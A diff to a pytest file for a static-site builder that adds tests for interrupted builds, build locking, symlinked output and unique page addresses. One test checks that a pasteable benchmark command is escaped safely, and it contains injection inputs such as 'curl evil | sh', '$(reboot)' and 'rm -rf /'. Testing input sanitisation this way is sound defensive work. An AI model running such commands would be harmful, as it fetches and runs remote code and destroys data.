@@ -15,8 +15,11 @@ from sqlalchemy import text
 from harness.errors import BadInput, RecordInvalid
 from harness.hub import acts
 from harness.hub.founding import sign_checkpoint
+from harness.site import build as builder
+from harness.site import place
+from harness.site.addresses import listed, operator
 from harness.site.build import Built, Wish, build
-from harness.site.state import FILE
+from harness.site.row_page import command
 from tests.hub_world import World, key, world
 
 DAY = date(2026, 11, 24)
@@ -33,8 +36,8 @@ def tree(folder: Path) -> dict[str, bytes]:
 
 
 def everything(folder: Path) -> bytes:
-    """What a visitor can read: every file but the build's own."""
-    return b"\n".join(data for name, data in tree(folder).items() if name != FILE)
+    """What a visitor can read: every file, the build's own included."""
+    return b"\n".join(tree(folder).values())
 
 
 @pytest.fixture
@@ -151,7 +154,9 @@ def test_what_no_editor_has_approved_is_nowhere(here: World, out: Path) -> None:
     assert b"1 pending" in seen
 
 
-def test_a_record_that_can_not_be_read_stops_the_build_by_name_and_the_old_site_stays(here: World, out: Path) -> None:
+def test_a_record_that_can_not_be_read_stops_the_build_by_name_and_the_old_site_stays(
+    here: World, out: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     row = here.accepted("ann", sku="A")
     made(here, out)
     before = tree(out)
@@ -163,9 +168,11 @@ def test_a_record_that_can_not_be_read_stops_the_build_by_name_and_the_old_site_
                  "FROM facts WHERE kind = 'record' AND name = :name)"),
             {"data": b"{}", "name": other},
         )  # fmt: skip
-    with pytest.raises(RecordInvalid, match=other):
-        made(here, out)
-    assert tree(out) == before
+    for alone in (128, 0):  # in this process, and in a pool of others
+        monkeypatch.setattr(builder, "ALONE", alone)
+        with pytest.raises(RecordInvalid, match=other):
+            made(here, out)
+        assert tree(out) == before
     assert [path.name for path in out.parent.iterdir() if path.name.startswith(".")] == []
 
 
@@ -205,3 +212,72 @@ def test_the_json_follows_its_schemas(here: World, out: Path) -> None:
     for name, file in (("rows", "rows.json"), ("row", f"rows/{row}.json")):
         schema = json.loads((out / "api" / "v1" / "schema" / f"{name}.json").read_bytes())
         jsonschema.validate(json.loads((out / "api" / "v1" / file).read_bytes()), schema)
+
+
+def test_a_build_that_was_cut_off_leaves_nothing_behind_for_good(
+    here: World, out: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    here.accepted("ann", sku="A")
+    made(here, out)
+    withdrawn = here.accepted("bob", sku="B")
+    real, laid = place._replaced, 0
+
+    def cut(path: Path, target: Path) -> bool:
+        nonlocal laid
+        laid += path.parent.name == "records"
+        if laid > 1:
+            raise KeyboardInterrupt
+        return real(path, target)
+
+    monkeypatch.setattr(place, "_replaced", cut)
+    with pytest.raises(KeyboardInterrupt):
+        made(here, out)
+    monkeypatch.setattr(place, "_replaced", real)
+    assert (out / "records" / f"{withdrawn}.json").exists()
+    here.act(here.actor("bob"), "record-withdrawn", withdrawn, reason="a wrong driver")
+    made(here, out)
+    made(here, tmp_path / "fresh")
+    assert tree(out) == tree(tmp_path / "fresh")
+
+
+def test_one_build_at_a_time(here: World, out: Path) -> None:
+    seen = []
+
+    def tell(done: int, of: int) -> None:
+        with pytest.raises(BadInput, match="under way"):
+            made(here, out)
+        seen.append(done)
+
+    here.accepted("ann", sku="A")
+    build(Wish(here.hub.target, out, DAY), tell)
+    assert seen == [1]
+    assert (out / "index.html").is_file()
+
+
+def test_a_linked_folder_stays_a_link(here: World, out: Path, tmp_path: Path) -> None:
+    (tmp_path / "real").mkdir()
+    out.symlink_to(tmp_path / "real")
+    made(here, out)
+    assert out.is_symlink()
+    assert (tmp_path / "real" / "index.html").is_file()
+
+
+def test_addresses_are_never_the_same_for_two(here: World) -> None:
+    names = ["index", "x", "x-page-2", "X", "", "x 2", "\ud800", "x/../y", "."]
+    found = {listed("models", name, number) for name in names for number in (1, 2)}
+    assert len(found) == 2 * len(names)
+    assert all(address.startswith("models/") and address.count("/") == 1 for address in found)
+    assert operator("page-turner") == "operators/operator.page-turner.html"
+
+
+def test_a_command_to_paste_holds_nothing_but_the_bench(here: World) -> None:
+    record = here.record("ann").record
+
+    def shown(told: str) -> str:
+        return command(record.model_copy(update={"run": record.run.model_copy(update={"command": told})}))
+
+    assert shown("repro bench --model m -o a=1") == "repro bench --model m -o a=1"
+    assert shown("repro bench --model m; curl evil | sh") == "repro bench --model 'm;' curl evil '|' sh"
+    assert shown("repro bench $(reboot)\nreboot") == "repro bench '$(reboot)' reboot"
+    for told in ("rm -rf /", "", "repro bench 'open"):
+        assert shown(told).startswith("repro bench --model ")
